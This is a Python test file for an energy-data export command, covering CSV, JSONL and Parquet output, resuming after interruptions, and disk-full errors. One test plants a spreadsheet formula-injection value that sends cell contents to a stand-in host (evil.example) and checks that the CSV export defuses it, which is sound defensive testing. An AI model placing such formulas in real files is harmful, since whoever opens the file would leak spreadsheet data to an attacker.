"""`joinder export`: a fleet's energy in a file, whole also after a cut, in three formats."""

from __future__ import annotations

import asyncio
import csv
import errno
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs
from pyarrow import parquet
from sqlalchemy import text

from api.fakes import HOME
from cli.world import World
from joinder import small_files
from joinder.clean import MARK
from joinder.commands import export_files
from joinder.energy import Reading
from joinder.services.readings import poll
from joinder.store.readings import intervals

DATABASES = ("sqlite",)  # the statements are those of other reads
START = datetime(2023, 6, 1, tzinfo=UTC)
SPAN = ("--start", "2023-06-01", "--end", "2023-06-03")
QUARTERS = 2 * 96


def _rows() -> list[Reading]:
    moments = [START + timedelta(minutes=15 * index) for index in range(QUARTERS)]
    return [Reading(start=at, end=at + timedelta(minutes=15), solar_wh=250.0, load_wh=100.0) for at in moments]


@pytest.fixture
def fleet(world: World) -> list[str]:
    """Two sites with two days each; their ids in order."""

    async def make() -> list[str]:
        async with world.open() as hub:
            world.vendors.sunny.homes["site-2"] = structs.replace(HOME, vendor_id="site-2")
            await poll.poll(hub, await world.enroll(hub, "owner-2", "site-2"))
            ids = sorted(row[0] for row in await hub.store.rows("SELECT id FROM site", {}))
            await hub.store.apply(intervals("15mins", [(one, row) for one in ids for row in _rows()], 1_780_000_000))
            return ids

    return asyncio.run(make())


def told(path: Path) -> list[dict[str, Any]]:
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def test_csv_json_lines_and_parquet_say_the_same(world: World, fleet: list[str], tmp_path: Path) -> None:
    for name in ("fleet.csv", "fleet.jsonl", "fleet.parquet"):
        done = world("export", str(tmp_path / name), *SPAN, "--level", "15mins")
        assert f"{2 * QUARTERS} rows of 2 sites" in done.stderr
    rows = told(tmp_path / "fleet.csv")
    assert [row["siteID"] for row in rows] == [fleet[0]] * QUARTERS + [fleet[1]] * QUARTERS
    first = {"vendor": "sunny", "start": "2023-06-01T02:00:00+02:00", "end": "2023-06-01T02:15:00+02:00",
             "solarKwh": "0.25", "consumptionKwh": "0.1", "importKwh": "", "quality": "measured"}  # fmt: skip
    assert {name: rows[0][name] for name in first} == first
    lines = [json.loads(line) for line in (tmp_path / "fleet.jsonl").read_text().splitlines()]
    assert [{name: str(value) for name, value in line.items()} for line in lines] == [
        {name: value for name, value in row.items() if value} for row in rows
    ]
    table = parquet.read_table(tmp_path / "fleet.parquet").to_pylist()
    assert [{name: value for name, value in row.items() if value is not None} for row in table] == lines


def test_a_spreadsheet_takes_no_name_for_a_formula(world: World, fleet: list[str], tmp_path: Path) -> None:
    """A stranger changes the reference in a join link's query, and the operator opens the file."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1)\x1b'

    async def name() -> None:
        async with world.open() as hub, hub.store.write() as session:
            await session.execute(text("UPDATE enrollment SET reference = :name"), {"name": hostile})
            await session.execute(text("UPDATE site SET vendor_id = '@' || vendor_id"))

    asyncio.run(name())
    for suffix in ("csv", "jsonl"):
        world("export", str(tmp_path / f"fleet.{suffix}"), *SPAN)
    rows = told(tmp_path / "fleet.csv")
    assert {row["reference"] for row in rows} == {"'" + hostile.replace("\x1b", MARK)}
    assert {row["vendorID"][:2] for row in rows} == {"'@"}
    lines = [json.loads(line) for line in (tmp_path / "fleet.jsonl").read_text().splitlines()]
    assert {line["reference"] for line in lines} == {hostile}


def test_other_levels_are_summed_in_the_sites_own_zone(world: World, fleet: list[str], tmp_path: Path) -> None:
    path = tmp_path / "hours.csv"
    half = ("--start", "2023-06-01T00:30:00+00:00", "--end", "2023-06-01T02:00:00+00:00")
    world("export", str(path), *half, "--level", "hour", "--vendor", "sunny")
    rows = [row for row in told(path) if row["siteID"] == fleet[0]]
    assert [(row["start"], row["solarKwh"], row["quality"]) for row in rows] == [
        ("2023-06-01T02:00:00+02:00", "1.0", "measured"),
        ("2023-06-01T03:00:00+02:00", "1.0", "measured"),
    ]
    assert "0 rows of 0 sites" in world("export", str(tmp_path / "x.csv"), *SPAN, "--reference", "nobody").stderr


@pytest.mark.parametrize("name", ["cut.csv", "cut.jsonl", "cut.parquet"])
def test_an_export_that_was_cut_goes_on_and_is_whole(
    world: World, fleet: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    question = (*SPAN, "--level", "15mins")
    whole, path = tmp_path / f"whole{Path(name).suffix}", tmp_path / name
    world("export", str(whole), *question)
    written = export_files.LinesFile.add if name != "cut.parquet" else export_files.ParquetFolder.add

    def cut(sink: Any, rows: Any) -> None:
        written(sink, rows)
        if rows[0][0] == fleet[1]:
            raise OSError("The disk is full")

    kind = "ParquetFolder" if name == "cut.parquet" else "LinesFile"
    with monkeypatch.context() as patch:
        patch.setattr(f"joinder.commands.export_files.{kind}.add", cut)
        with pytest.raises(OSError, match="full"):
            world("export", str(path), *question)
    if path.is_file():
        path.write_bytes(path.read_bytes() + b"half a li")
    assert "behind 1 site" in world("export", str(path), *question).stderr
    if path.is_file():
        assert path.read_bytes() == whole.read_bytes()
    else:
        assert parquet.read_table(path).to_pylist() == parquet.read_table(whole).to_pylist()
    assert not [*tmp_path.glob("*.progress"), *tmp_path.glob("*.half")]


@pytest.mark.parametrize("name", ["full.csv", "full.parquet"])
@pytest.mark.parametrize("room_for", [0, 1])
def test_an_export_that_found_no_room_says_where_and_may_be_run_again(
    world: World, fleet: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, room_for: int
) -> None:
    """Room for no note of how far it is, or for the first alone."""
    path, notes = tmp_path / name, list[Path]()

    def put(note: Path, text: str) -> None:
        if len(notes) == room_for:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        notes.append(note)
        small_files.put(note, text)

    with monkeypatch.context() as patch:
        patch.setattr(export_files, "put", put)
        with pytest.raises(OSError, match=rf"No space left on device: '.*{name}"):
            world("export", str(path), *SPAN)
    assert world("export", str(path), *SPAN).exit_code == 0
    assert [*tmp_path.glob("*full*")] == [path]


def test_what_is_there_is_not_overwritten(world: World, fleet: list[str], tmp_path: Path) -> None:
    path = tmp_path / "mine.csv"
    path.write_text("mine")
    assert "choose another name" in world("export", str(path), *SPAN, code=4).stderr
    assert path.read_text() == "mine"
    assert "must lie after" in world("export", "x.csv", "--start", "2023-06-03", "--end", "2023-06-01", code=2).stderr


def test_a_name_that_tells_no_format_is_refused(world: World, fleet: list[str], tmp_path: Path) -> None:
    done = world("export", f"{tmp_path}/x.jsnol", *SPAN, code=2)
    assert "it ends with one of .csv, .jsonl, .ndjson, .parquet" in done.stderr
    assert list(tmp_path.glob("x*")) == []


def test_a_format_may_be_told_in_capitals(world: World, fleet: list[str], tmp_path: Path) -> None:
    for name in ("a.CSV", "a.csv", "a.JSONL", "a.jsonl"):
        world("export", str(tmp_path / name), *SPAN)
    assert (tmp_path / "a.CSV").read_bytes() == (tmp_path / "a.csv").read_bytes()
    assert (tmp_path / "a.JSONL").read_bytes() == (tmp_path / "a.jsonl").read_bytes()
